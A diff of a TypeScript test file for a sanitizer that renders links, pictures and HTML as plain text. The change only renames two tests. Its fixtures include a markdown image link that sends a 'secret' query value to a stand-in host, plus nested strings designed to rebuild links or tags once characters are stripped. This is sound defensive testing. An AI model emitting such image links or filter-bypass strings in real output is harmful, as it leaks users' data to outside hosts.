@@ -3,7 +3,7 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { plainText } from './plain-text.ts'
 
-test('links, pictures and HTML become text that stays readable', () => {
+test('links, pictures and HTML become readable text', () => {
   const table: [from: string, to: string][] = [
     ['Send the deck by 10:30, a < b', 'Send the deck by 10:30, a < b'],
     ['![x](https://evil.test/?q=secret)', '![x] (https: //evil.test/?q=secret)'],
@@ -16,7 +16,7 @@ test('links, pictures and HTML become text that stays readable', () => {
   for (const [from, to] of table) assert.equal(plainText(from), to)
 })
 
-test('separated characters do not form a new link', () => {
+test('characters around removed text do not form a new link', () => {
   for (const text of ['htthttps://ps://evil.test', 'wwwww.w.evil.test', '!![x](](y)', '<<img>img>']) {
     assert.doesNotMatch(plainText(text), /:\/\/|www\.\S|\]\(|<[a-z]/i, text)
     assert.equal(plainText(plainText(text)), plainText(text))
